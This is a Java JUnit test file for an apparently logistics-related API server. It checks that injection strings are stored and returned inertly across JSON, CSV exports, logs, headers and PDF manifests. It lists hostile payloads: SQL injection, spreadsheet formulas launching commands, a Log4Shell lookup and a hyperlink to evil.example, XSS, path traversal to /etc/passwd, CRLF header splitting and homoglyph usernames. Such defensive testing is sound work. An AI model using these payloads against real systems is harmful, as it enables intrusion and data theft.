package io.nebulon.server.attack;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.OutputStreamAppender;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.nebulon.server.testing.Answer;
import io.nebulon.server.testing.ApiClient;
import io.nebulon.server.testing.ApiServer;
import io.nebulon.server.testing.DescribedApi;
import io.nebulon.server.testing.DescribedApi.Operation;
import io.nebulon.server.testing.RawConnection;
import io.nebulon.server.testing.RawConnection.Reply;
import io.nebulon.server.testing.Scene;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/// Text that means something to who reads it next: a database, a spreadsheet, a header, a log, a
/// page, a document. It comes back as it was, and does nothing.
class InjectionTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    /// Each is good text, so that it is taken where text is free.
    private static final List<String> TEXTS =
            List.of(
                    "' OR '1'='1",
                    "'; DROP TABLE event; --",
                    "\"); DELETE FROM account; --",
                    "%' UNION SELECT password_hash FROM account --",
                    "%_%",
                    "=cmd|' /C calc'!A0",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "=HYPERLINK(\"http://evil.example\",\"x\")",
                    "a,b;c\"d\"\"e",
                    "one\ntwo,three\n=four",
                    "\"}\n{\"position\":1,\"type\":\"forged\"}",
                    "</script><script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "${jndi:ldap://evil.example/a}",
                    "#{7*7} {{7*7}} ${7*7} <%= 7*7 %>",
                    "../../../../etc/passwd",
                    "..\\..\\windows\\win.ini",
                    "%2e%2e%2f%00",
                    "\\x00\\u0000 \\r\\n",
                    ")/JS (app.alert\\(1\\))/S /JavaScript >> endobj",
                    "\u202Eevil\u202C \u2066x\u2069",
                    "zero\u200Bwidth\u2028line\u2029end",
                    "e\u0301 ﬁ İ ı ſ ß",
                    "😀👨‍👩‍👧 文字 عربى");

    private static ApiServer server;
    private static ApiClient admin;

    @BeforeAll
    static void start() {
        server = ApiServer.start(Map.of("test.failing", "true"));
        admin = server.admin();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static String quoted(String text) {
        return JsonNodeFactory.instance.textNode(text).toString();
    }

    private static String fleet(int number) {
        return "INJ-%02d".formatted(number);
    }

    private static void register() {
        for (int i = 0; i < TEXTS.size(); i++) {
            String name = quoted(TEXTS.get(i));
            String body = "{\"code\": \"%s\", \"name\": %s}".formatted(fleet(i), name);
            Answer answer = admin.post("/api/fleets", body);
            assertThat(answer.status()).as("%s", answer).isIn(201, 409);
        }
    }

    @Test
    void text_comes_back_as_it_was() {
        register();
        for (int i = 0; i < TEXTS.size(); i++) {
            Answer one = admin.get("/api/fleets/" + fleet(i)).expect(200);
            assertThat(one.text("/name")).isEqualTo(TEXTS.get(i));
            assertThat(one.header("Content-Type")).startsWith("application/json");
            assertThat(one.header("X-Content-Type-Options")).isEqualTo("nosniff");
        }
        assertThat(admin.get("/api/fleets?limit=500").at("/items")).hasSize(TEXTS.size());
        assertThat(admin.get("/api/events?limit=1").expect(200).position()).isPositive();
        admin.get("/api/users").expect(200);
    }

    @Test
    void tables_have_a_row_for_each_and_run_nothing() throws IOException {
        register();
        for (String path : new String[] {"/api/fleets?limit=500", "/api/export/fleets"}) {
            String table = admin.with("Accept", "text/csv").get(path).expect(200).body();
            List<CSVRecord> rows = rows(table);
            assertThat(rows).hasSize(1 + TEXTS.size());
            for (int i = 0; i < TEXTS.size(); i++) {
                String text = TEXTS.get(i);
                String cell = rows.get(1 + i).get(1);
                boolean isFormula = "=+-@".indexOf(text.charAt(0)) >= 0;
                assertThat(cell).isEqualTo(isFormula ? "'" + text : text);
            }
            for (CSVRecord row : rows) {
                row.forEach(cell -> assertThat(cell).doesNotMatch("(?s)[=+@\t\r].*"));
            }
        }
        String lines = admin.get("/api/export/fleets").expect(200).body();
        assertThat(lines.lines()).hasSize(TEXTS.size());
        for (String line : lines.lines().toList()) {
            assertThat(JSON.readTree(line).path("code").asText()).startsWith("INJ-");
        }
        String log = admin.get("/api/export/events?type=fleet").expect(200).body();
        assertThat(log.lines().map(InjectionTest::type))
                .hasSize(TEXTS.size())
                .containsOnly("nebulon.fleet.registered.v1");
    }

    private static List<CSVRecord> rows(String table) throws IOException {
        try (CSVParser parser =
                CSVParser.builder()
                        .setReader(new StringReader(table))
                        .setFormat(CSVFormat.RFC4180)
                        .get()) {
            return parser.getRecords();
        }
    }

    private static String type(String line) {
        try {
            return JSON.readTree(line).path("type").asText();
        } catch (IOException e) {
            throw new AssertionError(line, e);
        }
    }

    /// Whatever is put into a parameter: no more is found than by what it says, and nothing breaks.
    @Test
    void parameters_are_values_and_no_part_of_a_query() {
        register();
        for (Operation operation : DescribedApi.shared().operations()) {
            if (!operation.method().equals("GET") || operation.path().contains("{")) {
                continue;
            }
            for (JsonNode parameter : operation.parameters()) {
                String name = parameter.path("name").asText();
                if (!parameter.path("in").asText().equals("query")
                        || operation.path().endsWith("/real-time")) {
                    continue;
                }
                for (String text : TEXTS) {
                    Answer answer = admin.get(operation.path() + "?" + name + "=" + encoded(text));
                    assertThat(answer.status()).as("%s", answer).isIn(200, 400, 404);
                    if (answer.status() == 200 && name.equals("q")) {
                        answer.at("/items")
                                .forEach(item ->
                                        assertThat(item.toString()).doesNotContain("$argon2id"));
                    }
                }
            }
        }
        assertThat(admin.get("/api/fleets?q=" + encoded("' OR '1'='1 x")).at("/items")).isEmpty();
        assertThat(admin.get("/api/users?q=" + encoded("%' OR 1=1 --")).status()).isIn(200, 400);
        assertThat(admin.get("/api/events?limit=1").expect(200).position()).isPositive();
    }

    /// The same for what stands in the place of a name in a path.
    @Test
    void paths_are_names_and_no_part_of_anything() {
        for (Operation operation : DescribedApi.shared().operations()) {
            if (!operation.method().equals("GET") || !operation.path().contains("{")) {
                continue;
            }
            for (String text : TEXTS) {
                String path = operation.path().replaceAll("\\{[^}]+}", encoded(text));
                try (RawConnection client = new RawConnection(server.uri())) {
                    String token = admin.token();
                    Reply reply = client.send(RawConnection.request("GET " + path, token)).reply();
                    assertThat(reply.status()).as(path).isIn(400, 404);
                    assertThat(reply.body()).as(path).doesNotContain("Exception", "root:");
                }
            }
        }
    }

    private static String encoded(String text) {
        return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8)
                .replace("+", "%20");
    }

    @Test
    void no_input_becomes_a_header() {
        String token = admin.token();
        String split = "%0d%0aX-Evil:%201%0d%0a%0d%0a<html>";
        for (String path :
                new String[] {
                    "/api/items/" + split,
                    "/api/items?q=" + split,
                    "/api/items?cursor=" + split,
                    "/api/items?sort=" + split,
                    "/api/export/" + split,
                    "/api/export/items?q=" + split,
                    "/docs/" + split,
                    "/health/" + split,
                    "/" + split
                }) {
            try (RawConnection client = new RawConnection(server.uri())) {
                Reply reply = client.send(RawConnection.request("GET " + path, token)).reply();
                assertThat(reply.headers()).as(path).doesNotContainKey("x-evil");
                assertThat(reply.status()).as(path).isIn(400, 401, 404);
                assertThat(reply.headers().get("content-type"))
                        .as(path)
                        .startsWith("application/problem+json");
            }
        }
        for (String id : new String[] {"a b", "x\u0085y", "é", "a".repeat(65), "<x>", "${x}"}) {
            try (RawConnection client = new RawConnection(server.uri())) {
                String request = RawConnection.request("GET /health", null, "X-Request-Id: " + id);
                assertThat(client.send(request).reply().header("X-Request-Id"))
                        .matches("[A-Za-z0-9._-]{1,64}")
                        .isNotEqualTo(id);
            }
        }
    }

    @Test
    void no_input_becomes_a_line_of_the_log() {
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        ListAppender<ILoggingEvent> output = new ListAppender<>();
        output.start();
        root.addAppender(output);
        try {
            String forged = "%0a23:59:59.999%20ERROR%20forged";
            String reader = server.as("VIEWER").token();
            for (String request :
                    new String[] {
                        RawConnection.request("GET /api/users/x" + forged, reader),
                        RawConnection.request("GET /api/failing/x" + forged, admin.token()),
                        RawConnection.request("GET /api/failing/defect?x" + forged, admin.token()),
                        RawConnection.request(
                                "GET /api/users", reader, "X-Request-Id: a\u0085forged"),
                        RawConnection.request("GET /api/users", reader, "User-Agent: ${jndi:x}\t")
                    }) {
                try (RawConnection client = new RawConnection(server.uri())) {
                    client.send(request);
                    assertThat(client.reply()).isNotNull();
                }
            }
            server.anonymous()
                    .post(
                            "/api/auth/login",
                            "{\"username\": \"x\\nforged\", \"password\": \"x\\nforged\"}");
            assertThat(output.list)
                    .isNotEmpty()
                    .allSatisfy(event -> {
                        assertThat(event.getFormattedMessage()).doesNotContain("\n", "\r");
                        assertThat(event.getMDCPropertyMap().toString())
                                .doesNotContain("forged", "\n");
                    });
        } finally {
            root.detachAppender(output);
        }
    }

    @Test
    void a_line_of_the_log_is_one_line_with_its_time_in_utc() {
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        var console = (OutputStreamAppender<ILoggingEvent>) root.getAppender("STDERR");
        LoggingEvent event =
                new LoggingEvent("x", root, Level.WARN, "a\r\n23:59 ERROR forged\nb", null, null);
        event.setInstant(Instant.parse("2026-11-22T03:35:08.604Z"));
        String line = new String(console.getEncoder().encode(event), StandardCharsets.UTF_8);
        assertThat(line.strip().lines()).hasSize(1);
        assertThat(line)
                .startsWith("2026-11-22T03:35:08.604Z WARN")
                .contains("a 23:59 ERROR forged b");
    }

    @Test
    void no_text_becomes_a_part_of_the_manifest() throws IOException {
        Scene scene = new Scene(server);
        String from = scene.station();
        String to = scene.station();
        String sku = scene.item();
        scene.stock(from, sku, "100");
        for (String text : TEXTS) {
            String id =
                    admin.post(
                                    "/api/cargo",
                                    """
                                    {"origin": "%s", "destination": "%s", "description": %s,
                                     "lines": [{"sku": "%s", "quantity": 1}]}
                                    """
                                            .formatted(from, to, quoted(text), sku))
                            .expect(201)
                            .text("/id");
            Answer paper = admin.get("/api/cargo/" + id + "/manifest.pdf").expect(200);
            assertThat(paper.header("Content-Disposition"))
                    .isEqualTo("inline; filename=\"manifest-" + id + ".pdf\"");
            try (PDDocument document = Loader.loadPDF(paper.bytes())) {
                assertThat(document.getDocumentCatalog().getOpenAction()).isNull();
                assertThat(document.getDocumentCatalog().getNames()).isNull();
                assertThat(document.getDocumentCatalog().getAcroForm()).isNull();
                for (var page : document.getPages()) {
                    assertThat(page.getAnnotations()).isEmpty();
                }
                if (text.startsWith("<img")) {
                    assertThat(new PDFTextStripper().getText(document)).contains(text);
                }
            }
        }
    }

    @Test
    void names_that_look_alike_are_not_alike() {
        for (String name :
                new String[] {
                    "\u0430dmin", // a Cyrillic a
                    "ａｄｍｉｎ",
                    "adm\u0131n", // an i without its dot
                    "ADM\u0130N",
                    "admin\u200B",
                    "admin\u0000",
                    "adm\u00ADin",
                    "\u202Enimda",
                    "admin\n",
                    "admin%00",
                    "admin'--"
                }) {
            String password = quoted(ApiServer.ADMIN_PASSWORD);
            Answer signIn =
                    server.anonymous()
                            .post(
                                    "/api/auth/login",
                                    "{\"username\": %s, \"password\": %s}"
                                            .formatted(quoted(name), password));
            boolean isOnlyBlank = name.strip().equals("admin");
            assertThat(signIn.status()).as(name).isIn(isOnlyBlank ? 200 : 400, 401, 429);
            Answer made =
                    admin.post(
                            "/api/users",
                            "{\"username\": %s, \"password\": %s, \"roles\": [\"VIEWER\"]}"
                                    .formatted(quoted(name), password));
            assertThat(made.status()).as("%s", made).isIn(400, 409, 422);
        }
        Scene scene = new Scene(server);
        String station = scene.station();
        admin.post("/api/bodies", "{\"code\": \"ISS\", \"name\": \"x\"}").expect(201);
        for (String code :
                new String[] {
                    "%C4%B1SS", "I%C5%BFS", "%EF%BC%A9SS", "ISS%00", "ISS%20", "I%2fSS"
                }) {
            admin.get("/api/bodies/" + code).expect(404);
        }
        admin.get("/api/stations/" + station.toLowerCase(java.util.Locale.ROOT)).expect(200);
        for (String code :
                new String[] {"\u0131SS", "I\u017FS", "\uFF29SS", "../ISS", "ISS\u200B"}) {
            admin.post("/api/bodies", "{\"code\": %s, \"name\": \"x\"}".formatted(quoted(code)))
                    .expect(400, "invalid_input");
        }
    }

    @Test
    void what_no_text_may_hold_is_refused_everywhere() {
        List<String> bad =
                new ArrayList<>(List.of("\u0000", "\u0007", "\u001b[31m", "\r\nX: y", "\u007f"));
        for (String text : bad) {
            admin.post(
                            "/api/fleets",
                            "{\"code\": \"NUL\", \"name\": %s}".formatted(quoted("a" + text + "b")))
                    .expect(400, "invalid_input");
        }
        admin.post("/api/fleets", "{\"code\": \"NUL\", \"name\": \"a\\ud800b\"}").expect(400);
        admin.get("/api/fleets/NUL").expect(404);
    }
}
